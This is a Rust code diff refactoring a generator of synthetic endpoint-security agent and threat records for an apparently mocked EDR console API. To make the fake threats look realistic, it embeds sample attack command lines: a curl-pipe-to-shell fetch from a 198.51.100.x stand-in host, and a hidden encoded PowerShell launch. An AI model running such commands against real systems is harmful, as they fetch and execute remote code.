@@ -7,7 +7,13 @@ use serde_json::{json, Value};
 use time::macros::datetime;
 use time::OffsetDateTime;
 
-use crate::util::{datetime_to_micros, fmt_micros, fmt_seconds, fnv1a, Micros, SeededRng};
+use std::sync::Arc;
+
+use crate::jsonw::Obj;
+use crate::records::{lenient_bool, AgentRow, ThreatRow};
+use crate::util::{
+    datetime_to_micros, fmt_micros, fmt_seconds, fnv1a, parse_timestamp, Micros, SeededRng,
+};
 
 const DAY_US: i64 = 86_400_000_000;
 const HOUR_US: i64 = 3_600_000_000;
@@ -120,8 +126,8 @@ pub(crate) struct Generator {
 
 pub(crate) struct Generated {
     pub groups: Vec<Value>,
-    pub agents: Vec<Value>,
-    pub threats: Vec<Value>,
+    pub agents: Vec<AgentRow>,
+    pub threats: Vec<ThreatRow>,
     pub generator: Generator,
 }
 
@@ -278,6 +284,290 @@ const INDICATORS: &[(&str, &str, u64)] = &[
     ),
 ];
 
+#[derive(Debug, Clone)]
+struct Nic {
+    id: String,
+    name: String,
+    inet: String,
+    inet6: String,
+    physical: String,
+    gateway: Option<(String, String)>,
+}
+
+#[derive(Debug, Clone)]
+struct TagFacts {
+    id: String,
+    key: String,
+    value: String,
+    at: Micros,
+    by: &'static str,
+    by_id: String,
+}
+
+/// Every decision about one generated agent; written out by `write_agent`.
+#[derive(Debug, Clone)]
+struct AgentFacts {
+    id: String,
+    uuid: String,
+    site: Site,
+    group_id: String,
+    group_name: String,
+    computer_name: String,
+    domain: &'static str,
+    os_type: &'static str,
+    os_name: &'static str,
+    os_revision: String,
+    machine: &'static str,
+    model: &'static str,
+    cpu: &'static str,
+    arch: &'static str,
+    version: &'static str,
+    legacy: bool,
+    decommissioned: bool,
+    uninstalled: bool,
+    active: bool,
+    network_status: &'static str,
+    created: Micros,
+    updated: Micros,
+    last_active: Micros,
+    registered: Micros,
+    os_start: Micros,
+    scan: Option<(Micros, Micros)>,
+    reboot_needed: bool,
+    external_ip: String,
+    last_ip_to_mgmt: Option<String>,
+    last_user: String,
+    nics: Vec<Nic>,
+    core_count: u64,
+    cpu_count: u64,
+    memory: u64,
+    firewall: bool,
+    up_to_date: bool,
+    remote_shell: bool,
+    apps_vulnerability: &'static str,
+    installer: &'static str,
+    mitigation_mode: &'static str,
+    mitigation_mode_suspicious: &'static str,
+    quarantined: bool,
+    ranger_status: &'static str,
+    missing_fda: bool,
+    tags: Vec<TagFacts>,
+}
+
+/// The agent as a threat sees it (`agentRealtimeInfo`/`agentDetectionInfo`), built from generator
+/// facts or from a served agent record.
+#[derive(Debug, Clone, Default)]
+pub(crate) struct ThreatAgent {
+    id: String,
+    uuid: String,
+    account_id: String,
+    account_name: String,
+    site_id: String,
+    site_name: String,
+    group_id: String,
+    group_name: String,
+    computer_name: String,
+    domain: String,
+    os_type: String,
+    os_name: String,
+    os_revision: String,
+    machine: String,
+    mitigation_mode: String,
+    network_status: String,
+    active: bool,
+    decommissioned: bool,
+    /// `true` or a timestamp for decommissioned agents (API.md decision 10), else null.
+    decommissioned_at: Option<Result<bool, String>>,
+    version: String,
+    registered: String,
+    created: Micros,
+    external_ip: Option<String>,
+    last_user: String,
+    operational_state: String,
+    scan_status: String,
+    scan_started: Option<String>,
+    scan_finished: Option<String>,
+    user_actions: Vec<String>,
+    /// (id, name, inet, inet6, physical)
+    nics: Vec<(String, String, Vec<String>, Vec<String>, String)>,
+    active_threats: u64,
+    infected: bool,
+}
+
+fn decommissioned_at(
+    id: &str,
+    decommissioned: bool,
+    updated: &str,
+) -> Option<Result<bool, String>> {
+    // Decided by the agent id so every threat of one agent agrees.
+    decommissioned.then(|| {
+        if fnv1a(id.as_bytes()) % 2 == 0 {
+            Ok(true)
+        } else {
+            Err(updated.to_owned())
+        }
+    })
+}
+
+impl ThreatAgent {
+    fn from_facts(a: &AgentFacts) -> Self {
+        Self {
+            id: a.id.clone(),
+            uuid: a.uuid.clone(),
+            account_id: a.site.account_id.clone(),
+            account_name: a.site.account_name.clone(),
+            site_id: a.site.id.clone(),
+            site_name: a.site.name.clone(),
+            group_id: a.group_id.clone(),
+            group_name: a.group_name.clone(),
+            computer_name: a.computer_name.clone(),
+            domain: a.domain.to_owned(),
+            os_type: a.os_type.to_owned(),
+            os_name: a.os_name.to_owned(),
+            os_revision: a.os_revision.clone(),
+            machine: a.machine.to_owned(),
+            mitigation_mode: a.mitigation_mode.to_owned(),
+            network_status: a.network_status.to_owned(),
+            active: a.active,
+            decommissioned: a.decommissioned,
+            decommissioned_at: decommissioned_at(&a.id, a.decommissioned, &fmt_micros(a.updated)),
+            version: a.version.to_owned(),
+            registered: fmt_micros(a.registered),
+            created: a.created,
+            external_ip: Some(a.external_ip.clone()),
+            last_user: a.last_user.clone(),
+            operational_state: "na".to_owned(),
+            scan_status: if a.scan.is_some() { "finished" } else { "none" }.to_owned(),
+            scan_started: a.scan.map(|(s, _)| fmt_micros(s)),
+            scan_finished: a.scan.map(|(_, e)| fmt_micros(e)),
+            user_actions: if a.reboot_needed {
+                vec!["reboot_needed".to_owned()]
+            } else {
+                Vec::new()
+            },
+            nics: a
+                .nics
+                .iter()
+                .map(|n| {
+                    (
+                        n.id.clone(),
+                        n.name.clone(),
+                        vec![n.inet.clone()],
+                        vec![n.inet6.clone()],
+                        n.physical.clone(),
+                    )
+                })
+                .collect(),
+            active_threats: 0,
+            infected: false,
+        }
+    }
+
+    /// Reads a served agent record leniently (for threats added after the tenant was generated).
+    pub(crate) fn from_value(v: &Value) -> Self {
+        let s = |k: &str| {
+            v.get(k)
+                .and_then(Value::as_str)
+                .unwrap_or_default()
+                .to_owned()
+        };
+        let opt = |k: &str| v.get(k).and_then(Value::as_str).map(str::to_owned);
+        let strings = |x: Option<&Value>| -> Vec<String> {
+            x.and_then(Value::as_array)
+                .map(|a| {
+                    a.iter()
+                        .filter_map(|i| i.as_str().map(str::to_owned))
+                        .collect()
+                })
+                .unwrap_or_default()
+        };
+        let id = s("id");
+        let decommissioned = lenient_bool(v.get("isDecommissioned"));
+        let active_threats = v.get("activeThreats").and_then(Value::as_u64).unwrap_or(0);
+        Self {
+            decommissioned_at: decommissioned_at(&id, decommissioned, &s("updatedAt")),
+            id,
+            uuid: s("uuid"),
+            account_id: s("accountId"),
+            account_name: s("accountName"),
+            site_id: s("siteId"),
+            site_name: s("siteName"),
+            group_id: s("groupId"),
+            group_name: s("groupName"),
+            computer_name: s("computerName"),
+            domain: s("domain"),
+            os_type: s("osType"),
+            os_name: s("osName"),
+            os_revision: s("osRevision"),
+            machine: s("machineType"),
+            mitigation_mode: s("mitigationMode"),
+            network_status: s("networkStatus"),
+            active: lenient_bool(v.get("isActive")),
+            decommissioned,
+            version: s("agentVersion"),
+            registered: s("registeredAt"),
+            created: parse_timestamp(&s("createdAt")).unwrap_or(0),
+            external_ip: opt("externalIp"),
+            last_user: s("lastLoggedInUserName"),
+            operational_state: opt("operationalState").unwrap_or_else(|| "na".to_owned()),
+            scan_status: s("scanStatus"),
+            scan_started: opt("scanStartedAt"),
+            scan_finished: opt("scanFinishedAt"),
+            user_actions: strings(v.get("userActionsNeeded")),
+            nics: v
+                .get("networkInterfaces")
+                .and_then(Value::as_array)
+                .map(|list| {
+                    list.iter()
+                        .map(|n| {
+                            let ns = |k: &str| {
+                                n.get(k)
+                                    .and_then(Value::as_str)
+                                    .unwrap_or_default()
+                                    .to_owned()
+                            };
+                            (
+                                ns("id"),
+                                ns("name"),
+                                strings(n.get("inet")),
+                                strings(n.get("inet6")),
+                                ns("physical"),
+                            )
+                        })
+                        .collect()
+                })
+                .unwrap_or_default(),
+            active_threats,
+            infected: lenient_bool(v.get("infected")),
+        }
+    }
+}
+
+/// Every decision about one threat that is needed before the agents' counts are known.
+#[derive(Debug, Clone, Copy)]
+struct ThreatPlan {
+    created: Micros,
+    updated: Micros,
+    verdict: &'static str,
+    incident: &'static str,
+}
+
+fn describe(s: &str) -> &'static str {
+    match s {
+        "undefined" => "Undefined",
+        "true_positive" => "True positive",
+        "false_positive" => "False positive",
+        "suspicious" => "Suspicious",
+        "unresolved" => "Unresolved",
+        "in_progress" => "In progress",
+        "resolved" => "Resolved",
+        "mitigated" => "Mitigated",
+        "not_mitigated" => "Not mitigated",
+        "marked_as_benign" => "Marked as benign",
+        _ => "",
+    }
+}
+
 impl Generator {
     fn next_id(&mut self) -> String {
         // Console ids are 18-digit decimal strings that grow over time.
@@ -292,11 +582,9 @@ impl Generator {
     }
 
     fn mac(&mut self, windows: bool) -> String {
-        let b: [u8; 6] = {
-            let x = self.rng.next_u64().to_le_bytes();
-            // A locally administered OUI-free address keeps generated MACs out of real vendor space.
-            [x[0] & 0xfe | 0x02, x[1], x[2], x[3], x[4], x[5]]
-        };
+        let x = self.rng.next_u64().to_le_bytes();
+        // Locally administered addresses keep generated MACs out of real vendors' space.
+        let b = [(x[0] & 0xfe) | 0x02, x[1], x[2], x[3], x[4], x[5]];
         if windows {
             format!(
                 "{:02X}-{:02X}-{:02X}-{:02X}-{:02X}-{:02X}",
@@ -359,43 +647,36 @@ impl Generator {
 
     fn pick_group(&mut self) -> usize {
         let site = self.rng.below(self.sites.len() as u64) as usize;
-        let in_site: Vec<usize> = self
-            .groups
-            .iter()
-            .enumerate()
-            .filter(|(_, g)| g.site == site)
-            .map(|(i, _)| i)
-            .collect();
-        // The site's Default Group (first in the list) holds the unassigned bulk of agents.
-        if in_site.len() == 1 || self.rng.chance(40) {
-            in_site[0]
+        let first = self.groups.iter().position(|g| g.site == site).unwrap_or(0);
+        let count = self.groups.iter().filter(|g| g.site == site).count().max(1);
+        // The site's Default Group (its first group) holds the unassigned bulk of agents.
+        if count == 1 || self.rng.chance(40) {
+            first
         } else {
-            in_site[1 + self.rng.below(in_site.len() as u64 - 1) as usize]
+            first + 1 + self.rng.below(count as u64 - 1) as usize
         }
     }
 
-    /// One agent record, shaped like the samples. `created` and `updated` are microseconds.
-    pub(crate) fn agent(
+    fn agent_facts(
         &mut self,
         created: Micros,
         updated: Micros,
         reuse_name: Option<String>,
-    ) -> Value {
-        let spec = self.spec.clone();
+    ) -> AgentFacts {
         let gi = self.pick_group();
         let group = self.groups[gi].clone();
         let site = self.sites[group.site].clone();
         let os = *self.rng.weighted(OS_MIX);
-        let legacy = self.rng.permille(spec.legacy_shape_permille);
-        let decommissioned = self.rng.permille(spec.decommissioned_permille);
+        let legacy = self.rng.permille(self.spec.legacy_shape_permille);
+        let decommissioned = self.rng.permille(self.spec.decommissioned_permille);
         let (os_type, os_name, os_revision, machine, model, cpu, arch): (
-            &str,
-            &str,
-            String,
-            &str,
-            &str,
-            &str,
-            &str,
+            &'static str,
+            &'static str,
+            &'static str,
+            &'static str,
+            &'static str,
+            &'static str,
+            &'static str,
         ) = match os {
             OsKind::WinWorkstation => {
                 let (name, revs) = *self.rng.pick(&[
@@ -425,7 +706,7 @@ impl Generator {
                 (
                     "windows",
                     name,
-                    (*self.rng.pick(revs)).to_owned(),
+                    *self.rng.pick(revs),
                     machine,
                     model,
                     cpu,
@@ -448,20 +729,12 @@ impl Generator {
                     "Intel(R) Xeon(R) Platinum 8175M CPU @ 2.50GHz",
                     "Intel(R) Xeon(R) Gold 6248R CPU @ 3.00GHz",
                 ]);
-                (
-                    "windows",
-                    name,
-                    rev.to_owned(),
-                    "server",
-                    model,
-                    cpu,
-                    "64 bit",
-                )
+                ("windows", name, rev, "server", model, cpu, "64 bit")
             }
             OsKind::WinLegacy => (
                 "windows_legacy",
                 "Windows 7 Professional",
-                "7601".to_owned(),
+                "7601",
                 "desktop",
                 "Dell Inc. - OptiPlex 790",
                 "Intel(R) Core(TM) i5-2400 CPU @ 3.10GHz",
@@ -477,15 +750,7 @@ impl Generator {
                     ("Mac14,2", "Apple M2", "laptop"),
                     ("iMac21,1", "Apple M1", "desktop"),
                 ]);
-                (
-                    "macos",
-                    "macOS",
-                    rev.to_owned(),
-                    machine,
-                    model,
-                    cpu,
-                    "ARM64",
-                )
+                ("macos", "macOS", rev, machine, model, cpu, "ARM64")
             }
             OsKind::LinuxServer => {
                 let (name, rev) = *self.rng.pick(&[
@@ -510,20 +775,12 @@ impl Generator {
                     "AMD EPYC 7571",
                     "Intel(R) Xeon(R) CPU @ 2.20GHz",
                 ]);
-                (
-                    "linux",
-                    name,
-                    rev.to_owned(),
-                    "server",
-                    model,
-                    cpu,
-                    "64 bit",
-                )
+                ("linux", name, rev, "server", model, cpu, "64 bit")
             }
             OsKind::K8sNode => (
                 "linux",
                 "Ubuntu 22.04",
-                "5.15.0-1057-aws".to_owned(),
+                "5.15.0-1057-aws",
                 "kubernetes node",
                 "Amazon EC2 - m6i.2xlarge",
                 "Intel(R) Xeon(R) Platinum 8375C CPU @ 2.90GHz",
@@ -537,8 +794,8 @@ impl Generator {
         };
         let id = self.next_id();
         let uuid = self.rng.hex(32);
-        let is_active = !decommissioned && self.rng.chance(85);
-        let last_active = if is_active {
+        let active = !decommissioned && self.rng.chance(85);
+        let last_active = if active {
             updated - self.rng.range(0, HOUR_US)
         } else {
             updated - self.rng.range(DAY_US, 60 * DAY_US)
@@ -546,9 +803,11 @@ impl Generator {
         .max(created);
         let registered = created - self.rng.range(0, 5_000_000);
         let os_start = last_active - self.rng.range(HOUR_US, 20 * DAY_US);
-        let scanned = self.rng.chance(90);
-        let scan_start = created + self.rng.range(60_000_000, 2 * HOUR_US);
-        let scan_end = scan_start + self.rng.range(60_000_000, HOUR_US);
+        // Every sample agent has finished its first full scan; scan dates are never null there.
+        let scan = {
+            let start = created + self.rng.range(60_000_000, 2 * HOUR_US);
+            Some((start, start + self.rng.range(60_000_000, HOUR_US)))
+        };
         let version = if legacy {
             *self.rng.pick(LEGACY_AGENT_VERSIONS)
         } else {
@@ -567,7 +826,7 @@ impl Generator {
         } else {
             user.to_owned()
         };
-        let egress = format!("{}.{}", site.egress_prefix, 10 + self.rng.below(200));
+        let external_ip = format!("{}.{}", site.egress_prefix, 10 + self.rng.below(200));
         let internal_ip = format!(
             "10.{}.{}.{}",
             site.ordinal % 250,
@@ -585,137 +844,118 @@ impl Generator {
                 (_, 0) => *self.rng.pick(&["Ethernet", "Wi-Fi", "Ethernet 2"]),
                 _ => "vEthernet (WSL)",
             };
-            let ip = if n == 0 {
+            let inet = if n == 0 {
                 internal_ip.clone()
             } else {
                 format!("172.17.0.{}", 1 + self.rng.below(250))
             };
-            let (gw, gw_mac) = if n == 0 && self.rng.chance(75) {
-                let gw = format!("{}.1", ip.rsplit_once('.').map_or("10.0.0", |(p, _)| p));
-                (json!(gw), json!(self.mac(windows)))
+            let gateway = if n == 0 && self.rng.chance(75) {
+                let prefix = inet
+                    .rsplit_once('.')
+                    .map_or("10.0.0", |(p, _)| p)
+                    .to_owned();
+                Some((format!("{prefix}.1"), self.mac(windows)))
             } else {
-                (Value::Null, Value::Null)
+                None
             };
-            nics.push(json!({
-                "gatewayIp": gw,
-                "gatewayMacAddress": gw_mac,
-                "id": self.next_id(),
-                "inet": [ip],
-                "inet6": [self.ipv6_link_local()],
-                "name": name,
-                "physical": self.mac(windows),
-            }));
+            nics.push(Nic {
+                id: self.next_id(),
+                name: name.to_owned(),
+                inet,
+                inet6: self.ipv6_link_local(),
+                physical: self.mac(windows),
+                gateway,
+            });
         }
-        let core_count = *self.rng.pick(&[2u64, 4, 4, 8, 8, 16]);
         let memory =
             *self.rng.pick(&[4096u64, 8192, 16384, 16384, 32768, 65536]) - self.rng.below(120);
-        let string_bool = |b: bool| if b { json!("True") } else { json!("False") };
-        let firewall = !matches!(os_type, "linux") && self.rng.chance(90);
-        let up_to_date = !legacy && self.rng.chance(80);
-        let mut agent = json!({
-            "accountId": site.account_id,
-            "accountName": site.account_name,
-            "activeDirectory": {
-                "computerDistinguishedName": null,
-                "computerMemberOf": [],
-                "lastUserDistinguishedName": null,
-                "lastUserMemberOf": []
+        let tags = if !legacy && self.rng.chance(self.spec.tagged_pct) {
+            self.tags(created, updated)
+        } else {
+            Vec::new()
+        };
+        AgentFacts {
+            id,
+            uuid,
+            group_id: group.id.clone(),
+            group_name: group.name.clone(),
+            computer_name,
+            domain,
+            os_type,
+            os_name,
+            os_revision: os_revision.to_owned(),
+            machine,
+            model,
+            cpu,
+            arch,
+            version,
+            legacy,
+            decommissioned,
+            uninstalled: decommissioned && self.rng.chance(30),
+            active,
+            network_status: if active {
+                "connected"
+            } else if self.rng.chance(10) {
+                "connecting"
+            } else {
+                "disconnected"
             },
-            "activeThreats": 0,
-            "agentVersion": version,
-            "allowRemoteShell": self.rng.chance(50),
-            "appsVulnerabilityStatus": *self.rng.pick(&["up_to_date", "not_applicable", "patch_required"]),
-            "cloudProviders": {},
-            "computerName": computer_name,
-            "consoleMigrationStatus": "N/A",
-            "coreCount": core_count,
-            "cpuCount": if machine == "server" { 2 } else { 1 },
-            "cpuId": cpu,
-            "createdAt": fmt_micros(created),
-            "domain": domain,
-            "encryptedApplications": false,
-            "externalId": if legacy { Value::Null } else { json!("") },
-            "externalIp": egress,
-            "firewallEnabled": if legacy { string_bool(firewall) } else { json!(firewall) },
-            "groupId": group.id,
-            "groupIp": format!("{}.x", site.egress_prefix),
-            "groupName": group.name,
-            "id": id,
-            "inRemoteShellSession": false,
-            "infected": false,
-            "installerType": match os_type {
+            created,
+            updated,
+            last_active,
+            registered,
+            os_start,
+            scan,
+            reboot_needed: self.rng.chance(5),
+            external_ip,
+            last_ip_to_mgmt: if legacy || self.rng.chance(3) {
+                None
+            } else {
+                Some(internal_ip)
+            },
+            last_user,
+            nics,
+            core_count: *self.rng.pick(&[2u64, 4, 4, 8, 8, 16]),
+            cpu_count: if machine == "server" { 2 } else { 1 },
+            memory,
+            firewall: os_type != "linux" && self.rng.chance(90),
+            up_to_date: !legacy && self.rng.chance(80),
+            remote_shell: self.rng.chance(50),
+            apps_vulnerability: *self
+                .rng
+                .pick(&["up_to_date", "not_applicable", "patch_required"]),
+            installer: match os_type {
                 "macos" => ".pkg",
-                "linux" => if os_name.starts_with("Red Hat") || os_name.starts_with("Amazon") { ".rpm" } else { ".deb" },
-                _ => if self.rng.chance(70) { ".msi" } else { ".exe" },
+                "linux" if os_name.starts_with("Red Hat") || os_name.starts_with("Amazon") => {
+                    ".rpm"
+                }
+                "linux" => ".deb",
+                _ if self.rng.chance(70) => ".msi",
+                _ => ".exe",
             },
-            "isActive": is_active,
-            "isDecommissioned": decommissioned,
-            "isPendingUninstall": false,
-            "isUninstalled": decommissioned && self.rng.chance(30),
-            "isUpToDate": if legacy { string_bool(up_to_date) } else { json!(up_to_date) },
-            "lastActiveDate": fmt_micros(last_active),
-            "lastIpToMgmt": if legacy || self.rng.chance(3) { Value::Null } else { json!(internal_ip) },
-            "lastLoggedInUserName": last_user,
-            "licenseKey": "",
-            "locationEnabled": machine == "laptop",
-            "locationType": if machine == "laptop" { "fallback" } else { "not_applicable" },
-            "locations": null,
-            "machineType": machine,
-            "mitigationMode": if self.rng.chance(85) { "protect" } else { "detect" },
-            "mitigationModeSuspicious": if self.rng.chance(70) { "detect" } else { "protect" },
-            "modelName": model,
-            "networkInterfaces": nics,
-            "networkQuarantineEnabled": self.rng.permille(5),
-            "networkStatus": if is_active { "connected" } else if self.rng.chance(10) { "connecting" } else { "disconnected" },
-            "operationalState": "na",
-            "operationalStateExpiration": null,
-            "osArch": arch,
-            "osName": os_name,
-            "osRevision": os_revision,
-            "osStartTime": fmt_seconds(os_start),
-            "osType": os_type,
-            "osUsername": null,
-            "rangerStatus": if legacy { "NotApplicable" } else { *self.rng.pick(&["Enabled", "Disabled", "NotApplicable"]) },
-            "rangerVersion": if legacy { Value::Null } else { json!("23.4.1.3") },
-            "registeredAt": fmt_micros(registered),
-            "remoteProfilingState": "disabled",
-            "remoteProfilingStateExpiration": null,
-            "scanAbortedAt": null,
-            "scanFinishedAt": if scanned { json!(fmt_micros(scan_end)) } else { Value::Null },
-            "scanStartedAt": if scanned { json!(fmt_micros(scan_start)) } else { Value::Null },
-            "scanStatus": if scanned { "finished" } else { "none" },
-            "siteId": site.id,
-            "siteName": site.name,
-            "threatRebootRequired": false,
-            "totalMemory": memory,
-            "updatedAt": fmt_micros(updated),
-            "userActionsNeeded": if self.rng.chance(5) { json!(["reboot_needed"]) } else { json!([]) },
-            "uuid": uuid,
-        });
-        if !legacy {
-            if let Some(obj) = agent.as_object_mut() {
-                let missing = if os_type == "macos" && self.rng.chance(30) {
-                    json!(["user_action_needed_fda"])
-                } else {
-                    json!([])
-                };
-                obj.insert("missingPermissions".into(), missing);
-                obj.insert("detectionState".into(), Value::Null);
-                obj.insert("firstFullModeTime".into(), Value::Null);
-                obj.insert("storageName".into(), Value::Null);
-                obj.insert("storageType".into(), Value::Null);
-                let tags = if self.rng.chance(spec.tagged_pct) {
-                    self.tags(created, updated)
-                } else {
-                    Vec::new()
-                };
-                obj.insert("tags".into(), json!({ "sentinelone": tags }));
-            }
+            mitigation_mode: if self.rng.chance(85) {
+                "protect"
+            } else {
+                "detect"
+            },
+            mitigation_mode_suspicious: if self.rng.chance(70) {
+                "detect"
+            } else {
+                "protect"
+            },
+            quarantined: self.rng.permille(5),
+            ranger_status: if legacy {
+                "NotApplicable"
+            } else {
+                *self.rng.pick(&["Enabled", "Disabled", "NotApplicable"])
+            },
+            missing_fda: os_type == "macos" && self.rng.chance(30),
+            tags,
+            site,
         }
-        agent
     }
 
-    fn tags(&mut self, created: Micros, updated: Micros) -> Vec<Value> {
+    fn tags(&mut self, created: Micros, updated: Micros) -> Vec<TagFacts> {
         const TAGS: &[(&str, &[&str])] = &[
             ("environment", &["production", "staging", "development"]),
             (
@@ -731,40 +971,47 @@ impl Generator {
         (0..n)
             .map(|k| {
                 let (key, values) = TAGS[(start + k) % TAGS.len()];
-                let value = self.rng_pick_str(values);
+                let value = (*self.rng.pick(values)).to_owned();
                 self.tag(key, value, created + (updated - created) / 2)
             })
             .collect()
     }
 
-    fn rng_pick_str(&mut self, values: &[&str]) -> String {
-        (*self.rng.pick(values)).to_owned()
-    }
-
-    pub(crate) fn tag(&mut self, key: &str, value: String, at: Micros) -> Value {
+    fn tag(&mut self, key: &str, value: String, at: Micros) -> TagFacts {
         let who = self.rng.below(PEOPLE.len() as u64) as usize;
-        json!({
-            "assignedAt": fmt_micros(at),
-            "assignedBy": PEOPLE[who],
-            "assignedById": format!("{}", 900_000_000_000_000_000u64 + who as u64 * 1_000_003),
-            "id": self.next_id(),
-            "key": key,
-            "value": value,
-        })
+        TagFacts {
+            id: self.next_id(),
+            key: key.to_owned(),
+            value,
+            at,
+            by: PEOPLE[who],
+            by_id: person_id(who),
+        }
     }
 
-    /// One threat on `agent` (an agent record), created at `created`, last updated at `updated`.
-    pub(crate) fn threat(&mut self, agent: &Value, created: Micros, updated: Micros) -> Value {
-        let a = |k: &str| agent.get(k).cloned().unwrap_or(Value::Null);
-        let a_str = |k: &str| {
-            agent
-                .get(k)
-                .and_then(Value::as_str)
-                .unwrap_or("")
-                .to_owned()
-        };
-        let os_type = a_str("osType");
-        let id = self.next_id();
+    /// A tag in its served JSON form (for `add_agent_tag`).
+    pub(crate) fn tag_value(&mut self, key: &str, value: &str, at: Micros) -> Value {
+        let t = self.tag(key, value.to_owned(), at);
+        let mut s = String::new();
+        write_tag(&mut s, &t);
+        serde_json::from_str(&s).unwrap_or(Value::Null)
+    }
+
+    /// A new agent created and last updated at `at`, as a served row.
+    pub(crate) fn new_agent_row(&mut self, at: Micros) -> AgentRow {
+        let facts = self.agent_facts(at, at, None);
+        agent_row(&facts, 0)
+    }
+
+    /// A new threat on `agent`, created and last updated at `at`, as a served row.
+    pub(crate) fn new_threat_row(&mut self, agent: &ThreatAgent, at: Micros) -> ThreatRow {
+        let plan = self.plan_threat(at, at, at);
+        self.threat_row(agent, plan)
+    }
+
+    fn plan_threat(&mut self, agent_created: Micros, earliest: Micros, end: Micros) -> ThreatPlan {
+        let created = self.rng.range(agent_created.max(earliest), end);
+        let updated = (created + self.rng.range(1_000, 30 * DAY_US)).min(end.max(created));
         let verdict = *self.rng.weighted(&[
             ("undefined", 45),
             ("true_positive", 25),
@@ -788,6 +1035,22 @@ impl Generator {
                 .rng
                 .weighted(&[("unresolved", 70), ("in_progress", 10), ("resolved", 20)]),
         };
+        ThreatPlan {
+            created,
+            updated,
+            verdict,
+            incident,
+        }
+    }
+
+    fn threat_row(&mut self, agent: &ThreatAgent, plan: ThreatPlan) -> ThreatRow {
+        let ThreatPlan {
+            created,
+            updated,
+            verdict,
+            incident,
+        } = plan;
+        let id = self.next_id();
         let confidence = *self
             .rng
             .weighted(&[("malicious", 60), ("suspicious", 38), ("n/a", 2)]);
@@ -800,7 +1063,15 @@ impl Generator {
         };
         let dynamic = self.rng.chance(45);
         let user = *self.rng.pick(FIRST_NAMES);
-        let (file, ext, ext_type, path, originator, process_user, args) = match os_type.as_str() {
+        let (file, ext, ext_type, path, originator, process_user, args): (
+            &str,
+            &str,
+            &str,
+            String,
+            &str,
+            String,
+            Option<String>,
+        ) = match agent.os_type.as_str() {
             "macos" => {
                 let (f, e, t) = *self.rng.pick(&[
                     ("Installer.dmg", "DMG", "Archive"),
@@ -813,14 +1084,15 @@ impl Generator {
                     "/private/tmp",
                     "/Users/{u}/Library/LaunchAgents",
                 ]);
+                let orig = *self.rng.pick(&["Finder", "launchd", "bash", "Safari"]);
                 (
                     f,
                     e,
                     t,
                     format!("{}/{f}", dir.replace("{u}", user)),
-                    *self.rng.pick(&["Finder", "launchd", "bash", "Safari"]),
+                    orig,
                     user.to_owned(),
-                    Value::Null,
+                    None,
                 )
             }
             "linux" => {
@@ -835,20 +1107,19 @@ impl Generator {
                     .rng
                     .pick(&["/tmp", "/var/tmp/.cache", "/dev/shm", "/home/{u}"]);
                 let puser = *self.rng.pick(&["root", "www-data", user]);
-                let args = if self.rng.chance(50) {
-                    json!(format!(
+                let args = self.rng.chance(50).then(|| {
+                    format!(
                         "/bin/sh -c curl -fsSL http://198.51.100.{}/i.sh | sh",
                         self.rng.below(250)
-                    ))
-                } else {
-                    Value::Null
-                };
+                    )
+                });
+                let orig = *self.rng.pick(&["bash", "sshd", "python3", "cron"]);
                 (
                     f,
                     e,
                     t,
                     format!("{}/{f}", dir.replace("{u}", user)),
-                    *self.rng.pick(&["bash", "sshd", "python3", "cron"]),
+                    orig,
                     puser.to_owned(),
                     args,
                 )
@@ -870,27 +1141,22 @@ impl Generator {
                     "\\Device\\HarddiskVolume2\\Windows\\Temp",
                     "\\Device\\HarddiskVolume3\\ProgramData\\Updater",
                 ]);
-                let args = if e == "PS1" || self.rng.chance(30) {
-                    json!(format!(
-                        "powershell.exe -NoP -W Hidden -Enc {}",
-                        self.rng.hex(24)
-                    ))
-                } else {
-                    Value::Null
-                };
+                let args = (e == "PS1" || self.rng.chance(30))
+                    .then(|| format!("powershell.exe -NoP -W Hidden -Enc {}", self.rng.hex(24)));
+                let orig = *self.rng.pick(&[
+                    "explorer.exe",
+                    "OUTLOOK.EXE",
+                    "WINWORD.EXE",
+                    "powershell.exe",
+                    "chrome.exe",
+                    "cmd.exe",
+                ]);
                 (
                     f,
                     e,
                     t,
                     format!("{}\\{f}", dir.replace("{u}", user)),
-                    *self.rng.pick(&[
-                        "explorer.exe",
-                        "OUTLOOK.EXE",
-                        "WINWORD.EXE",
-                        "powershell.exe",
-                        "chrome.exe",
-                        "cmd.exe",
-                    ]),
+                    orig,
                     format!("ACME\\{user}"),
                     args,
                 )
@@ -906,86 +1172,30 @@ impl Generator {
             ("Ransomware", 5),
             ("Exploit", 5),
         ]);
+        let classification_source = if dynamic {
+            "Behavioral"
+        } else {
+            *self.rng.pick(&["Cloud", "Static", "Engine"])
+        };
         let engine_count = 1 + self.rng.below(2) as usize;
         let first_engine = self.rng.below(ENGINES.len() as u64) as usize;
         let engines: Vec<(&str, &str)> = (0..engine_count)
             .map(|k| ENGINES[(first_engine + k) % ENGINES.len()])
             .collect();
+        let static_indicator = !dynamic && self.rng.chance(50);
         let indicators = if dynamic {
             self.indicators()
-        } else if self.rng.chance(50) {
-            vec![
-                json!({"category": "General", "description": "Detected by the Static Engine", "ids": [43], "tactics": []}),
-            ]
         } else {
             Vec::new()
         };
         let identified = created - self.rng.range(1_000, 900_000);
         let mitigations = self.mitigation_actions(mitigation, created);
-        let decommissioned_at = if crate::records::lenient_bool(agent.get("isDecommissioned")) {
-            // Decided by the agent id so every threat of one agent agrees (API.md decision 10).
-            if fnv1a(a_str("id").as_bytes()) % 2 == 0 {
-                json!(true)
-            } else {
-                a("updatedAt")
-            }
-        } else {
-            Value::Null
-        };
-        let nics: Vec<Value> = agent
-            .get("networkInterfaces")
-            .and_then(Value::as_array)
-            .map(|list| {
-                list.iter()
-                    .map(|n| {
-                        json!({
-                            "id": n.get("id").cloned().unwrap_or(Value::Null),
-                            "inet": n.get("inet").cloned().unwrap_or_else(|| json!([])),
-                            "inet6": n.get("inet6").cloned().unwrap_or_else(|| json!([])),
-                            "name": n.get("name").cloned().unwrap_or(Value::Null),
-                            "physical": n.get("physical").cloned().unwrap_or(Value::Null),
-                        })
-                    })
-                    .collect()
-            })
-            .unwrap_or_default();
-        let first_nic = agent.get("networkInterfaces").and_then(|n| n.get(0));
-        let ipv4 = first_nic
-            .and_then(|n| n.get("inet"))
-            .and_then(|i| i.get(0))
-            .cloned()
-            .unwrap_or(Value::Null);
-        let ipv6 = first_nic
-            .and_then(|n| n.get("inet6"))
-            .and_then(|i| i.get(0))
-            .cloned()
-            .unwrap_or(Value::Null);
-        let sha256 = if self.rng.chance(40) {
-            json!(self.rng.hex(64))
-        } else {
-            Value::Null
-        };
-        let md5 = if self.rng.chance(30) {
-            json!(self.rng.hex(32))
-        } else {
-            Value::Null
-        };
